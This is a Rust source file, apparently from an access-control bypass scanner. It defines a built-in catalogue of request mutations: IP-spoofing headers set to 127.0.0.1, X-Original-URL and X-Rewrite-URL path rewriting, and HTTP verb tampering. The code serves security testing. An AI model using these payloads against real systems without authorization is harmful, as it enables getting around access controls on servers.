use reqwest::Method;

/// Replaced with `scheme://host[:port]` of the target.
pub const URL_PLACEHOLDER: &str = "%URL%";
/// Replaced with the target path (`/` when empty).
pub const PATH_PLACEHOLDER: &str = "%PATH%";

const LOOPBACK: &str = "127.0.0.1";

/// One header/verb mutation tried against every target.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadTemplate {
    headers: Vec<(&'static str, &'static str)>,
    verb: Option<Method>,
}

impl PayloadTemplate {
    pub fn new(headers: &[(&'static str, &'static str)]) -> Self {
        Self {
            headers: headers.to_vec(),
            verb: None,
        }
    }

    /// Template that only changes the request method.
    pub fn verb(method: Method) -> Self {
        Self {
            headers: Vec::new(),
            verb: Some(method),
        }
    }

    pub fn with_verb(mut self, method: Method) -> Self {
        self.verb = Some(method);
        self
    }

    pub fn headers(&self) -> &[(&'static str, &'static str)] {
        &self.headers
    }

    pub fn verb_override(&self) -> Option<&Method> {
        self.verb.as_ref()
    }

    /// Method the request is sent with; GET unless overridden.
    pub fn method(&self) -> Method {
        self.verb.clone().unwrap_or(Method::GET)
    }
}

/// Immutable, ordered set of payloads. Order only fixes output order, it carries no priority.
#[derive(Debug, Clone)]
pub struct Catalogue {
    templates: Vec<PayloadTemplate>,
}

impl Catalogue {
    pub fn from_templates(templates: Vec<PayloadTemplate>) -> Self {
        Self { templates }
    }

    pub fn builtin() -> Self {
        let templates = vec![
            // IP spoofing
            PayloadTemplate::new(&[("X-Forwarded-For", "127.0.0.1:80")]),
            PayloadTemplate::new(&[("X-Forwarded-For", LOOPBACK)]),
            PayloadTemplate::new(&[("X-Forwarded-Host", LOOPBACK)]),
            PayloadTemplate::new(&[("X-Custom-IP-Authorization", LOOPBACK)]),
            PayloadTemplate::new(&[("X-Host", LOOPBACK)]),
            PayloadTemplate::new(&[("X-Remote-IP", LOOPBACK)]),
            PayloadTemplate::new(&[("X-Originating-IP", LOOPBACK)]),
            PayloadTemplate::new(&[("X-Real-IP", LOOPBACK)]),
            PayloadTemplate::new(&[("X-Client-IP", LOOPBACK)]),
            // URL rewriting
            PayloadTemplate::new(&[("X-Original-URL", URL_PLACEHOLDER)]),
            PayloadTemplate::new(&[("X-Original-URL", PATH_PLACEHOLDER)]),
            PayloadTemplate::new(&[("X-Rewrite-URL", PATH_PLACEHOLDER)]),
            PayloadTemplate::new(&[("Referer", "%URL%%PATH%")]),
            // Method override with an empty body
            PayloadTemplate::new(&[("Content-Length", "0")]).with_verb(Method::GET),
            PayloadTemplate::new(&[("Content-Length", "0")]).with_verb(Method::POST),
            // Verb tampering
            PayloadTemplate::verb(Method::POST),
            PayloadTemplate::verb(Method::HEAD),
            PayloadTemplate::verb(Method::PUT),
            PayloadTemplate::verb(Method::DELETE),
            PayloadTemplate::verb(Method::PATCH),
            PayloadTemplate::verb(Method::OPTIONS),
            PayloadTemplate::verb(Method::TRACE),
        ];
        Self { templates }
    }

    pub fn iter(&self) -> std::slice::Iter<'_, PayloadTemplate> {
        self.templates.iter()
    }

    pub fn len(&self) -> usize {
        self.templates.len()
    }

    pub fn is_empty(&self) -> bool {
        self.templates.is_empty()
    }
}

impl<'a> IntoIterator for &'a Catalogue {
    type Item = &'a PayloadTemplate;
    type IntoIter = std::slice::Iter<'a, PayloadTemplate>;

    fn into_iter(self) -> Self::IntoIter {
        self.iter()
    }
}
